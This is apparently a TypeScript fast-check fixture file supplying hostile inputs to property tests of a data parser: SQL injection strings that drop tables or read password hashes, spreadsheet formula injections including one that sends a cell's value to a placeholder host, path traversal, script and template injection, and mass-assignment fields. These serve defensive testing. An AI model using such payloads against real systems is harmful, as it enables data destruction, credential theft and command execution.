import fc from 'fast-check';

// Values an attacker or a careless client sends in place of what a field expects. Shared by the DTO
// and the bundle parser property tests.

export const SQL = [`'; DROP TABLE hazards; --`, `1' OR '1'='1`, `x'); DELETE FROM audit_log; --`, `\\'; SELECT pg_sleep(5); --`,
  `$1`, `' UNION SELECT password_hash FROM users --`, `"; TRUNCATE enterprises CASCADE; --`];

// CSV and spreadsheet injection (OWASP): each would run as a formula when a spreadsheet opens the cell raw
export const FORMULAS = ['=HYPERLINK("http://x","y")', `+cmd|' /C calc'!A0`, '@SUM(1)', '-2+3', '=1+1', '\t=1+1', '\r=1+1',
  `=cmd|' /C notepad'!'A1'`, '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', '＝1+1'];

export const WEIRD_TEXT = ['', ' ', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '\u202e危险\u202c', 'e\u0301', '𠀀𪚥🧪', '\uFEFF',
  '\\', '"', `'`, '%00', '../../etc/passwd', '<script>alert(1)</script>', '${7*7}', '{{7*7}}', 'null', 'undefined', 'NaN',
  'Infinity', '-0', '1e309', '0x1F', '__proto__', 'constructor', 'x'.repeat(5_000), '汉'.repeat(3_000)];

export const BAD_DATES = ['2023-02-30', '2023-02-29', '2023-13-01', '2023-00-10', '2023-04-31', '0000-01-01', '9999-12-31', '+02023-05-01',
  '2023-5-1', '20230501', '2023/05/01', '2023-05-01T00:00:00Z', '2023-05-01 ', ' 2023-05-01', '2023-05-01\u0000', '１９９９-０１-０１'];

/** a JSON value nested `depth` levels deep, to try recursion limits of the transformers */
export function deeplyNested(depth: number, kind: 'array' | 'object'): unknown {
  let v: unknown = 'leaf';
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  return v;
}

/** Any hostile string, from the lists above or generated (full unicode, lone surrogates included). */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL, ...FORMULAS, ...WEIRD_TEXT, ...BAD_DATES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }).map((s) => `${s}\u0000${s}`) },
  // huge, yet under the 2 MB body limit: what the length checks and the database make of it
  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 400_000 }).map((n) => 'x'.repeat(n)) },
);

/** A value of the wrong JSON type for a scalar field, never null (null is "absent" for an optional field). */
export const wrongShape: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>([], {}, [1, 2], { $gt: '' }, { toString: 'x' }, [[[]]], { a: { b: [{}] } }, [null]),
  fc.constantFrom(deeplyNested(500, 'array'), deeplyNested(500, 'object')),
  fc.array(fc.jsonValue({ maxDepth: 3 }), { minLength: 1, maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { minKeys: 1, maxKeys: 4 }),
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, -0.01, 0.001, 1.5, 2 ** 31, 2 ** 53, -(2 ** 31) - 1, 1e20, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

export const EXTRA_FIELDS = ['colour', 'id', 'isAdmin', 'role', 'createdAt', 'unit_code', 'password_hash', 'ledger_no; DROP TABLE hazards', '汉字字段', ''];
